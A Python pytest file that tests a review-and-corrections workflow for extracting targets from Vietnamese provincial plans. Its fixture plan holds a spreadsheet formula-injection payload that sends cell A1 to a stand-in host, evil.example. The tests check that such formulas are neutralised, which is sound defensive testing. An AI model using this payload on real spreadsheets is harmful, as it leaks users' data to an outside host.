"""The review loop (issue 10 §3), end to end: build, review sheet, edits, --apply, build again.

The sheet is edited in the test with openpyxl, as a researcher would in a spreadsheet;
corrections survive a rebuild, a stale one is reported and changes nothing, and every
field is checked against the vocabularies with errors naming file, row and value.
"""

from __future__ import annotations

import csv
import hashlib
import shutil
import warnings
from pathlib import Path

import pandas as pd
import pytest

pytest.importorskip("openpyxl")

from openpyxl import load_workbook  # noqa: E402

from parstats.build import build, load_documents, load_table, load_targets  # noqa: E402
from parstats.cli import main  # noqa: E402
from parstats.errors import InputError, StaleCorrectionWarning  # noqa: E402
from parstats.formats import legacy  # noqa: E402
from parstats.formats.samples import Run, font_pdf  # noqa: E402
from parstats.review import (  # noqa: E402
    CORRECTION_COLUMNS,
    Correction,
    fallback_count,
    read_corrections,
    read_review,
    review_frame,
    write_corrections,
)

# A plan whose first target's sentence is a spreadsheet formula, with a result of the
# past that the extractor rightly leaves out (a reviewer will add it as a baseline).
FORMULA_PLAN = (
    "ỦY BAN NHÂN DÂN TỈNH ĐẮK LẮK\nSố: 99/KH-UBND\nKẾ HOẠCH\nCải cách hành chính năm 2024\n\n"
    "I. MỤC TIÊU\n"
    '=HYPERLINK("http://evil.example/?x="&A1,"click") Tối thiểu 80% hồ sơ được giải quyết '
    "trực tuyến năm 2024.\n"
    "- Tối thiểu 90% người dân hài lòng với sự phục vụ của cơ quan hành chính năm 2024.\n"
)
# A two-page PDF plan typed in a VNI font: its targets carry their page.
PDF_PAGES = (
    [
        "ỦY BAN NHÂN DÂN TỈNH KIÊN GIANG",
        "Số: 77/KH-UBND",
        "KẾ HOẠCH",
        "Cải cách hành chính năm 2024",
        "I. MỤC TIÊU",
        "1. Tối thiểu 95% văn bản được gửi nhận dưới dạng điện tử năm 2024.",
    ],
    [
        "2. Năm 2023 tỉnh đã đạt 85% hồ sơ giải quyết đúng hạn.",
        "3. Phấn đấu 100% cơ quan hành chính cấp tỉnh áp dụng ISO năm 2024.",
    ],
)


def add_plan(home: Path, name: str, data: bytes | str) -> Path:
    """Put a plan into the scratch project's plans folder with its manifest row."""
    plans = home / "data" / "raw" / "plans"
    path = plans / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    manifest = plans / "manifest.csv"
    manifest.chmod(0o644)
    header = manifest.read_text(encoding="utf-8").splitlines()[0].split(",")
    cells = {"file": name, "sha256": hashlib.sha256(path.read_bytes()).hexdigest(),
             "bytes": str(path.stat().st_size), "source": "test"}
    with open(manifest, "a", encoding="utf-8") as fh:
        fh.write(",".join(cells.get(column, "") for column in header) + "\n")
    return path


def vni_pdf(pages: tuple[list[str], ...]) -> bytes:
    return font_pdf([[[Run(legacy.encode_vni(line), "VNI-Times")] for line in page]
                     for page in pages])


def _snapshot(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.iterdir()) if p.is_file()}


def _rows(sheet) -> list[dict]:
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def _set(sheet, header: list[str], row: int, column: str, value) -> None:
    sheet.cell(row=row, column=header.index(column) + 1).value = value


@pytest.fixture()
def reviewed_home(project_home: Path) -> Path:
    add_plan(project_home, "005_formula.txt", FORMULA_PLAN)
    add_plan(project_home, "006_scan.PDF", vni_pdf(PDF_PAGES))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        build()
    return project_home


def test_review_loop_end_to_end(reviewed_home: Path, tmp_path: Path, capsys):
    home = reviewed_home
    before = load_targets()
    documents = load_documents()
    pdf = documents.set_index("doc").loc["006_scan"]
    assert (pdf["source_format"], pdf["page_count"]) == ("pdf-text", 2)
    sheet_path = tmp_path / "review.xlsx"
    assert main(["review", "--out", str(sheet_path)]) == 0
    assert "wrote 148 target(s) to review" in capsys.readouterr().out

    book = load_workbook(sheet_path)
    sheet = book["review"]
    header = [c.value for c in sheet[1]]
    assert header[:7] == ["action", "note", "doc", "page", "line", "quote", "sentence"]
    key = sheet.cell(row=1, column=header.index("key") + 1).column_letter
    assert sheet.column_dimensions[key].hidden
    rows = _rows(sheet)
    assert len(rows) == len(before) == 148
    # Lowest confidence first; without a confidence, rows with more fallback fields first.
    counts = [fallback_count(r["rules"], r["indicator"]) for r in rows]
    assert counts == sorted(counts, reverse=True)
    # A sentence that is a formula is text in the sheet, never a formula.
    formula = next(i for i, r in enumerate(rows, 2) if r["doc"] == "005_formula"
                   and "HYPERLINK" in (r["sentence"] or ""))
    cell = sheet.cell(row=formula, column=header.index("sentence") + 1)
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)

    def row_of(doc: str, value: float) -> int:
        return next(i for i, r in enumerate(rows, 2) if r["doc"] == doc and r["value"] == value)

    drop, fix, keep = row_of("005_formula", 80.0), row_of("005_formula", 90.0), row_of(
        "006_scan", 95.0)
    _set(sheet, header, drop, "action", "drop")
    _set(sheet, header, drop, "note", "=1+1 a note that looks like a formula")
    _set(sheet, header, fix, "action", "fix")
    _set(sheet, header, fix, "year", 2025)
    _set(sheet, header, fix, "level", "province")
    _set(sheet, header, fix, "indicator", None)
    _set(sheet, header, keep, "action", "keep")
    added = sheet.max_row + 1
    for column, value in {
        "action": "add", "doc": "006_scan", "page": 2, "line": 1,
        "quote": "85% hồ sơ giải quyết đúng hạn", "value": 85, "unit": "percent",
        "comparator": "eq", "direction": "attain", "year": 2023, "level": "province",
        "area": "procedures", "kind": "baseline", "indicator": "on_time_procedure_files_share",
    }.items():
        _set(sheet, header, added, column, value)
    book.save(sheet_path)

    raw = home / "data" / "raw"
    assert main(["review", "--apply", str(sheet_path)]) == 0
    out = capsys.readouterr().out
    assert "wrote 4 correction(s) (1 drop, 1 fix, 1 keep, 1 add)" in out
    corrections_file = raw / "corrections.csv"
    with open(corrections_file, encoding="utf-8", newline="") as fh:
        written = list(csv.DictReader(fh))
    assert list(written[0]) == list(CORRECTION_COLUMNS)
    assert [r["action"] for r in written] == ["drop", "fix", "keep", "add"]
    assert written[0]["note"].startswith("'=1+1")  # safe to open in a spreadsheet
    assert written[1]["set_year"] == "2025" and written[1]["set_indicator"] == "NA"
    assert written[1]["set_unit"] == ""  # unchanged fields stay empty
    assert read_corrections(corrections_file)[0].note.startswith("=1+1")  # read back exactly

    assert main(["build"]) == 0
    out = capsys.readouterr().out
    assert "corrections: 4 applied (1 keep, 1 fix, 1 drop, 1 add)" in out
    assert "dropped 005_formula target 1" in out
    targets = load_targets()
    assert len(targets) == len(before)  # one dropped, one added
    mine = targets.loc[targets.doc == "005_formula"].set_index("target_no")
    assert 1 not in mine.index  # dropped; its number stays unused
    fixed = mine.loc[2]
    assert (fixed["origin"], fixed["correction"], fixed["year"], fixed["level"]) == (
        "corrected", "fix", 2025, "province")
    assert pd.isna(fixed["indicator"])
    assert "year=correction" in fixed["rules"] and "level=correction" in fixed["rules"]
    scan = targets.loc[targets.doc == "006_scan"].set_index("value")
    assert (scan.loc[95.0, "origin"], scan.loc[95.0, "correction"]) == ("extracted", "keep")
    new = scan.loc[85.0]
    assert (new["origin"], new["correction"], new["kind"], new["page"], new["line"]) == (
        "corrected", "add", "baseline", 2, 1)
    assert new["target_no"] == scan["target_no"].max()
    assert new["plan_id"] == scan.loc[95.0, "plan_id"] and new["province"] == "Kiên Giang"
    untouched = targets.loc[targets.correction.isna()]
    assert (untouched["origin"] == "extracted").all()
    docs = load_documents().set_index("doc")
    assert docs.loc["005_formula", "n_targets"] == 1 and docs.loc["006_scan", "n_targets"] == 3
    table = load_table("corrections")
    assert table["status"].tolist() == ["applied"] * 4
    assert table.loc[0, "changes"].startswith("dropped: value=80 value_high=NA unit=percent")
    assert table.loc[1, "changes"] == ("year: 2024 -> 2025; level: all -> province; "
                                       "indicator: satisfaction_administrative_services -> NA")
    # Deterministic with corrections too.
    processed = home / "data" / "processed"
    first = _snapshot(processed)
    build()
    assert _snapshot(processed) == first

    # A stale correction (its quote is not in the text any more) is reported, never silent.
    sha = docs.loc["006_scan", "sha256"]
    with open(corrections_file, "a", encoding="utf-8", newline="") as fh:
        csv.DictWriter(fh, fieldnames=CORRECTION_COLUMNS, lineterminator="\n").writerow(
            {"action": "drop", "sha256": sha, "doc": "006_scan", "page": "1", "line": "6",
             "quote": "96% văn bản", "value": "96"})
    with pytest.warns(StaleCorrectionWarning, match=r"line 6: drop '96% văn bản'.*stale"):
        assert main(["build"]) == 0
    err = capsys.readouterr().err
    assert "corrections.csv line 6: drop '96% văn bản' is stale: the quote is not in" in err
    table = load_table("corrections")
    assert table["status"].tolist() == ["applied"] * 4 + ["stale"]
    assert load_targets().equals(targets)  # it changed nothing


def test_a_csv_sheet_round_trips_and_bad_cells_name_file_row_and_value(
    reviewed_home: Path, tmp_path: Path, capsys
):
    sheet = tmp_path / "review.csv"
    assert main(["review", "--out", str(sheet), "--doc", "005_formula"]) == 0
    frame = pd.read_csv(sheet, dtype=str, keep_default_na=False)
    assert set(frame["doc"]) == {"005_formula"} and len(frame) == 2
    assert frame["sentence"].str.startswith("'").any()  # the formula sentence is neutralised
    frame.loc[0, "action"] = "fix"
    frame.loc[0, "unit"] = "percentage"
    frame.loc[1, "action"] = "maybe"
    frame.to_csv(sheet, index=False)
    capsys.readouterr()
    assert main(["review", "--apply", str(sheet)]) == 2
    err = capsys.readouterr().err
    assert f"{sheet}, line 2: 2 bad review row(s)" in err
    assert "line 2: unit must be one of percent, count, rank, rank_places (got 'percentage')" in err
    assert "line 3: action must be one of keep, drop, fix, add (or empty) (got 'maybe')" in err
    assert not (reviewed_home / "data" / "raw" / "corrections.csv").exists()
    frame.loc[0, "unit"] = "count"
    frame.loc[1, "action"] = "keep"
    frame.to_csv(sheet, index=False)
    assert main(["review", "--apply", str(sheet)]) == 0
    corrections = read_corrections(reviewed_home / "data" / "raw" / "corrections.csv")
    assert [(c.action, c.changes) for c in corrections] == [("fix", (("unit", "count"),)),
                                                          ("keep", ())]
    # A second review of the same row replaces the first decision.
    frame.loc[0, "action"] = "drop"
    frame.loc[0, "unit"] = "percent"
    frame.loc[1, "action"] = ""
    frame.to_csv(sheet, index=False)
    assert main(["review", "--apply", str(sheet)]) == 0
    assert "1 replaced earlier decisions" in capsys.readouterr().out
    corrections = read_corrections(reviewed_home / "data" / "raw" / "corrections.csv")
    assert [c.action for c in corrections] == ["keep", "drop"]


def test_review_filters_by_province_and_document(reviewed_home: Path):
    targets, documents = load_targets(), load_documents()
    dak_lak = review_frame(targets, documents, province="Dak Lak")
    assert set(dak_lak["doc"]) == {"000_64bc7c3f5e06c144", "004_05c88c85dc93fec2", "005_formula"}
    by_plan = review_frame(targets, documents, doc="dak-lak_kh-99_2024")
    assert set(by_plan["doc"]) == {"005_formula"}
    assert len(review_frame(targets, documents, limit=3)) == 3
    with pytest.raises(InputError, match="no document 'nope'"):
        review_frame(targets, documents, doc="nope")
    with pytest.raises(InputError, match="Cà Mau"):
        review_frame(targets, documents, province="Ca Mau")


def test_hand_edited_corrections_are_checked_line_by_line(tmp_path: Path):
    path = tmp_path / "corrections.csv"
    sha = "a" * 64
    rows = [
        {"action": "fix", "sha256": sha, "line": "3", "quote": "80% hồ sơ", "value": "80",
         "set_level": "provincial"},
        {"action": "drop", "sha256": "xyz", "line": "3", "quote": "80% hồ sơ", "value": "80"},
        {"action": "add", "sha256": sha, "line": "4", "quote": "75% hồ sơ", "set_value": "70",
         "set_unit": "percent"},
        {"action": "keep", "sha256": sha, "line": "3", "quote": "80% hồ sơ", "value": "80,0",
         "set_year": "2030"},
        {"action": "fix", "sha256": sha, "line": "9", "quote": "5%", "value": "5",
         "set_unit": "NA"},
    ]
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=CORRECTION_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(InputError) as info:
        read_corrections(path)
    message = str(info.value)
    assert message.startswith(f"{path}, line 2: ")
    assert "line 2: set_level: level must be one of province, district" in message
    assert "(got 'provincial')" in message
    assert "line 3: sha256 must be the document's 64 hex digits" in message
    assert "line 4: an added target needs comparator" in message
    assert "line 4: the quote does not contain the number 70" in message
    assert "line 5: keep sets no field, but year is given: use fix" in message
    assert "line 6: unit cannot be made missing" in message


def test_corrections_round_trip_exactly_and_two_rows_for_one_target_are_refused(tmp_path):
    path = tmp_path / "corrections.csv"
    sha = "b" * 64
    corrections = [
        Correction(2, "fix", sha, "=doc", 2, 7, "-5% chi phí", 5.0, None,
                   (("value_high", None), ("direction", "decrease")), "'+ a note"),
        Correction(3, "add", sha, None, None, 9, "41,17% hồ sơ", None, None,
                   (("value", 41.17), ("unit", "percent"), ("comparator", "ge"),
                    ("direction", "attain"), ("area", "procedures"), ("kind", "target"))),
    ]
    write_corrections(path, corrections)
    assert read_corrections(path) == tuple(corrections)
    text = path.read_text(encoding="utf-8")
    assert "'-5% chi phí" in text and "''+ a note" in text and ",NA," in text
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(text.splitlines()[1] + "\n")
    with pytest.raises(InputError, match="line 4: corrects the same target as line 2"):
        read_corrections(path)


def test_a_correction_for_a_document_no_longer_built_is_stale(reviewed_home: Path):
    raw = reviewed_home / "data" / "raw"
    write_corrections(raw / "corrections.csv", [
        Correction(2, "drop", "c" * 64, "gone", None, 3, "80% hồ sơ", 80.0, None),
    ])
    with pytest.warns(StaleCorrectionWarning, match="no document of this build"):
        result = build()
    assert result.corrections["status"].tolist() == ["stale"]
    assert "removed or changed" in result.corrections["reason"].iloc[0]


def test_review_apply_writes_only_data_raw_corrections(reviewed_home: Path, tmp_path: Path):
    raw = reviewed_home / "data" / "raw"
    before = {p: p.read_bytes() for p in raw.rglob("*") if p.is_file()}
    sheet = tmp_path / "r.xlsx"
    assert main(["review", "--out", str(sheet), "--doc", "006_scan"]) == 0
    book = load_workbook(sheet)
    book["review"]["A2"] = "keep"
    book.save(sheet)
    rows = read_review(sheet, load_documents())
    assert [c.action for c in rows.corrections] == ["keep"]
    assert main(["review", "--apply", str(sheet)]) == 0
    after = {p: p.read_bytes() for p in raw.rglob("*") if p.is_file()}
    assert set(after) - set(before) == {raw / "corrections.csv"}
    assert all(after[p] == data for p, data in before.items())
    assert not [p for p in raw.iterdir() if p.name.startswith(".")]  # no temporary file left
    # The review sheet itself may not be written into data/raw.
    assert main(["review", "--out", str(raw / "r.xlsx")]) == 2


def test_a_sheet_of_another_kind_is_refused(tmp_path: Path):
    other = tmp_path / "other.csv"
    other.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(InputError, match="not a review sheet"):
        read_review(other)
    shutil.copy(other, tmp_path / "other.txt")
    with pytest.raises(InputError, match=r"\.xlsx or \.csv"):
        read_review(tmp_path / "other.txt")
